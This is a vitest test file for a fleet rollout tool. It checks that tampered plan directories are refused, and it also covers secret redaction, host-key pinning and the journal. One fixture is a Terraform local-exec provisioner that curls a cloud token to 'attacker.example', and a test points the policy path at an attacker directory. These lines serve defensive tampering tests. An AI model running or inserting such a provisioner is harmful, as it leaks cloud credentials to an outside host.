// What the rollout starts from: the reviewed plan directory, secrets, the inventory and its pinned
// known_hosts, and the journal it leaves behind.

import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { hostBundle, loadReviewedPlan, PlanDirError } from '../../lib/apply/bundle.ts';
import { buildInventory, InventoryError, knownHostsLines } from '../../lib/hosts/inventory.ts';
import { TERRAFORM_HOSTS_OUTPUT } from '../../lib/compile/infra.ts';
import { Journal, type JournalDocument } from '../../lib/apply/journal.ts';
import { useColour } from '../../lib/apply/progress.ts';
import { resolveSecret, SecretError, SecretValues } from '../../lib/plan/secrets.ts';
import type { PlanDocument, PlannedHost } from '../../lib/plan/plan-format.ts';
import { CONFIG_FILE, writeFixturePlan } from '../fixtures/plan-dir.ts';
import { objectPath } from '../../lib/plan/plan-dir.ts';

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFixtureFixtureFixtureFixtureFixtureFixture';
const ADDRESSES = { stage1: { address: '127.0.1.1', port: 22, hostKey: KEY }, web1: { address: '127.0.1.2', port: 2222, hostKey: KEY } };

let work: string;
beforeEach(() => {
  work = mkdtempSync(join(tmpdir(), 'upkeep-inputs-'));
});
afterEach(() => rmSync(work, { recursive: true, force: true }));

describe('a reviewed plan directory', () => {
  it('is read when plan.json still hashes to its plan_id', async () => {
    const plan = await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES });
    expect((await loadReviewedPlan(join(work, 'p'))).plan.plan_id).toBe(plan.plan_id);
  });

  it('is refused when plan.json was edited after review', async () => {
    await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES });
    const file = join(work, 'p', 'plan.json');
    writeFileSync(file, readFileSync(file, 'utf8').replace('"batchSize": 2', '"batchSize": 3'));
    await expect(loadReviewedPlan(join(work, 'p'))).rejects.toThrow(/changed after it was planned/);
  });

  it('is refused when the policy path that relative secret files are read beside was pointed elsewhere', async () => {
    await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES, extraFiles: () => [{ path: '/etc/upkeep/token', mode: '0600', owner: 'root:root', secret: { file: 'secrets/token' } }] });
    const file = join(work, 'p', 'plan.json');
    const plan = JSON.parse(readFileSync(file, 'utf8'));
    // An attacker's directory holds secrets/token: apply would install its content on every host.
    if ('policy' in plan) plan.policy = '/tmp/attacker/fleet.ts';
    if (plan.metadata?.policy !== undefined) plan.metadata.policy = '/tmp/attacker/fleet.ts';
    writeFileSync(file, JSON.stringify(plan, null, 2));
    await expect(loadReviewedPlan(join(work, 'p'))).rejects.toThrow(/changed after it was planned/);
  });

  describe('with a terraform/ stack', () => {
    const STACK = { 'main.tf.json': `${JSON.stringify({ resource: { hcloud_server: { web1: { name: 'web1' } } } }, null, 2)}\n` };
    const LOCAL_EXEC = { terraform_data: { pwn: { provisioner: [{ 'local-exec': { command: 'curl -d "$TF_VAR_hcloud_token" https://attacker.example/' } }] } } };

    it('is read when terraform/ holds exactly the reviewed stack', async () => {
      const plan = await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES, terraform: STACK });
      expect((await loadReviewedPlan(join(work, 'p'))).plan.plan_id).toBe(plan.plan_id);
    });

    it('is refused when main.tf.json gained a local-exec provisioner after review', async () => {
      await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES, terraform: STACK });
      const main = join(work, 'p', 'terraform', 'main.tf.json');
      const stack = JSON.parse(readFileSync(main, 'utf8'));
      stack.resource = { ...stack.resource, ...LOCAL_EXEC };
      writeFileSync(main, JSON.stringify(stack, null, 2));
      await expect(loadReviewedPlan(join(work, 'p'))).rejects.toThrow(/terraform\/main\.tf\.json differs from the reviewed plan/);
    });

    it('is refused when terraform/ holds a file the review did not cover', async () => {
      await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES, terraform: STACK });
      writeFileSync(join(work, 'p', 'terraform', 'extra_override.tf.json'), JSON.stringify({ resource: LOCAL_EXEC }));
      await expect(loadReviewedPlan(join(work, 'p'))).rejects.toThrow(/terraform\/extra_override\.tf\.json is not part of the reviewed plan/);
    });

    it('is refused when a plan without a stack has a terraform/ directory', async () => {
      await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES });
      mkdirSync(join(work, 'p', 'terraform'));
      writeFileSync(join(work, 'p', 'terraform', 'main.tf.json'), JSON.stringify({ resource: LOCAL_EXEC }));
      await expect(loadReviewedPlan(join(work, 'p'))).rejects.toThrow(/the reviewed plan has no Terraform stack/);
    });
  });

  it('is refused when --plan-id names another plan, and read with the full id or a 12-character prefix', async () => {
    const plan = await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES });
    expect((await loadReviewedPlan(join(work, 'p'), plan.plan_id)).plan.plan_id).toBe(plan.plan_id);
    expect((await loadReviewedPlan(join(work, 'p'), plan.plan_id.slice(0, 12))).plan.plan_id).toBe(plan.plan_id);
    const other = `${plan.plan_id.startsWith('0') ? '1' : '0'}${plan.plan_id.slice(1, 12)}`;
    await expect(loadReviewedPlan(join(work, 'p'), other)).rejects.toThrow(new RegExp(`holds plan ${plan.plan_id.slice(0, 12)}, not the approved plan ${other}: refusing`));
    await expect(loadReviewedPlan(join(work, 'p'), plan.plan_id.slice(0, 11))).rejects.toThrow(/--plan-id takes the approved plan id: 12 to 64 lowercase hex characters/);
    await expect(loadReviewedPlan(join(work, 'p'), '')).rejects.toThrow(PlanDirError);
  });

  it('refuses a plan directory of format 2 (a copy of every file per host) and says to re-plan; a new plan replaces it', async () => {
    const old = join(work, 'old');
    const plan = await writeFixturePlan(old, { hosts: ADDRESSES });
    rmSync(join(old, 'objects'), { recursive: true });
    mkdirSync(join(old, 'hosts', 'web1', 'etc', 'upkeep'), { recursive: true });
    writeFileSync(join(old, 'hosts', 'web1', CONFIG_FILE), 'version=1\n');
    writeFileSync(join(old, 'plan.json'), JSON.stringify({ ...plan, format_version: 2 }));
    await expect(loadReviewedPlan(old)).rejects.toThrow(/plan\.json: plan format 2 is not supported by this upkeep \(format 3\); re-run bin\/plan/);
    await writeFixturePlan(old, { hosts: ADDRESSES });
    expect(existsSync(join(old, 'hosts'))).toBe(false);
    expect((await loadReviewedPlan(old)).plan.format_version).toBe(3);
  });

  it('gives every host the one stored copy of a content they share, checked against each host\'s reviewed hash', async () => {
    const plan = await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES });
    const dir = await loadReviewedPlan(join(work, 'p'));
    const unit = '/etc/systemd/system/upkeep-fixture-01.timer';
    const hash = plan.hosts.web1!.files.find((f) => f.path === unit)!.sha256!;
    expect(plan.hosts.stage1!.files.find((f) => f.path === unit)!.sha256).toBe(hash);
    const content = (host: string) => Buffer.from(hostBundle(dir, dir.plan.hosts[host] as PlannedHost, { baseDir: work }, new SecretValues()).files.find((f) => f.path === unit)!.content as Uint8Array).toString();
    expect(content('web1')).toBe(readFileSync(join(work, 'p', objectPath(hash)), 'utf8'));
    expect(content('stage1')).toBe(content('web1'));
    rmSync(join(work, 'p', objectPath(hash)));
    expect(() => hostBundle(dir, dir.plan.hosts.stage1 as PlannedHost, { baseDir: work }, new SecretValues())).toThrow(/stage1: \/etc\/systemd\/system\/upkeep-fixture-01\.timer: the plan directory has no content for it \(objects\/[0-9a-f]{2}\/[0-9a-f]{64}: ENOENT\)/);
  });

  it('gives each host its reviewed file contents, and refuses content that differs from the plan', async () => {
    await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES, config: (h) => `host=${h}` });
    const dir = await loadReviewedPlan(join(work, 'p'));
    const web1 = dir.plan.hosts.web1 as PlannedHost;
    const bundle = hostBundle(dir, web1, { baseDir: work }, new SecretValues());
    expect(bundle.units).toEqual(web1.units);
    expect(Buffer.from(bundle.files.find((f) => f.path === CONFIG_FILE)?.content as Uint8Array).toString()).toBe('host=web1\n');
    writeFileSync(join(work, 'p', objectPath(web1.files.find((f) => f.path === CONFIG_FILE)!.sha256!)), 'host=tampered\n');
    expect(() => hostBundle(dir, web1, { baseDir: work }, new SecretValues())).toThrow(PlanDirError);
  });

  it('resolves secret files at apply time and remembers their values for redaction', async () => {
    await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES, extraFiles: () => [{ path: '/etc/upkeep/token', mode: '0600', owner: 'root:root', secret: { env: 'FIXTURE_TOKEN' } }] });
    const dir = await loadReviewedPlan(join(work, 'p'));
    expect(readFileSync(join(work, 'p', 'plan.json'), 'utf8')).not.toContain('s3cr3t-value');
    const secrets = new SecretValues();
    const bundle = hostBundle(dir, dir.plan.hosts.stage1 as PlannedHost, { baseDir: work, env: { FIXTURE_TOKEN: 's3cr3t-value' } }, secrets);
    expect(Buffer.from(bundle.files.find((f) => f.path === '/etc/upkeep/token')?.content as Uint8Array).toString()).toBe('s3cr3t-value');
    expect(secrets.redact('agent said: s3cr3t-value is wrong')).toBe('agent said: [secret] is wrong');
  });
});

describe('secret references', () => {
  it('read a file relative to the policy directory', () => {
    writeFileSync(join(work, 'restic.pass'), 'correct horse\n');
    expect(resolveSecret({ file: 'restic.pass' }, { baseDir: work }).toString()).toBe('correct horse\n');
  });

  it('name the reference, never a value, when they cannot be resolved', () => {
    expect(() => resolveSecret({ env: 'UPKEEP_MISSING_SECRET' }, { baseDir: work, env: {} })).toThrow(/environment variable UPKEEP_MISSING_SECRET is not set/);
    expect(() => resolveSecret({ file: 'absent.pass' }, { baseDir: work })).toThrow(SecretError);
    expect(() => resolveSecret({ env: 'BAD;NAME' }, { baseDir: work, env: {} })).toThrow(/invalid environment variable/);
  });
});

describe('the inventory', () => {
  it('pins every host key under the name ssh looks it up by, with the port when it is not 22', async () => {
    const plan = await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES });
    expect(knownHostsLines(buildInventory(plan))).toBe(`127.0.1.1 ${KEY}\n[127.0.1.2]:2222 ${KEY}\n`);
  });

  it('takes a provisioned host address and key from Terraform outputs', async () => {
    const plan = await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES });
    const web1 = plan.hosts.web1 as PlannedHost;
    const { address: _a, hostKey: _k, ...unaddressed } = web1;
    const provisioned: PlanDocument = { ...plan, hosts: { ...plan.hosts, web1: unaddressed } };
    const outputs = { [TERRAFORM_HOSTS_OUTPUT]: { sensitive: false, value: { web1: { address: '203.0.113.7', host_key: KEY } } } };
    expect(buildInventory(provisioned, { terraformOutputs: outputs }).web1).toEqual({ name: 'web1', address: '203.0.113.7', port: 2222, hostKey: KEY });
    expect(() => buildInventory(provisioned)).toThrow(InventoryError);
  });

  it('refuses a host without a pinned key rather than trusting it on first use', async () => {
    const plan = await writeFixturePlan(join(work, 'p'), { hosts: ADDRESSES });
    const { hostKey: _k, ...unpinned } = plan.hosts.stage1 as PlannedHost;
    const doc: PlanDocument = { ...plan, hosts: { ...plan.hosts, stage1: unpinned } };
    expect(() => buildInventory(doc)).toThrow(/stage1: no pinned host key/);
    expect(buildInventory(doc, { externalKnownHosts: true }).stage1?.hostKey).toBeUndefined();
  });
});

describe('the journal', () => {
  it('is a valid document after every entry, with secret values scrubbed from details', async () => {
    const file = join(work, 'journal.json');
    const secrets = new SecretValues();
    secrets.add(Buffer.from('hunter22'));
    const journal = new Journal({ file, planId: 'p1', fleet: 'f', redact: (t) => secrets.redact(t) });
    await journal.step({ host: 'web1', step: 'apply', wave: 1, group: 'g' }, async () => 'x');
    await expect(journal.step({ host: 'web1', step: 'confirm' }, async () => Promise.reject(new Error('refused hunter22')))).rejects.toThrow();
    const mid = JSON.parse(readFileSync(file, 'utf8')) as JournalDocument;
    expect(mid.outcome).toBe('running');
    expect(mid.entries.map((e) => [e.host, e.step, e.result])).toEqual([['web1', 'apply', 'ok'], ['web1', 'confirm', 'failed']]);
    expect(mid.entries[1]?.detail).toBe('refused [secret]');
    expect(typeof mid.entries[0]?.duration_ms).toBe('number');
    journal.finish('failed', 1);
    expect((JSON.parse(readFileSync(file, 'utf8')) as JournalDocument).exit_code).toBe(1);
  });
});

describe('progress output', () => {
  it('is coloured only on a terminal and never with NO_COLOR', () => {
    expect(useColour({ isTTY: true }, {})).toBe(true);
    expect(useColour({ isTTY: true }, { NO_COLOR: '1' })).toBe(false);
    expect(useColour({ isTTY: false }, {})).toBe(false);
  });
});
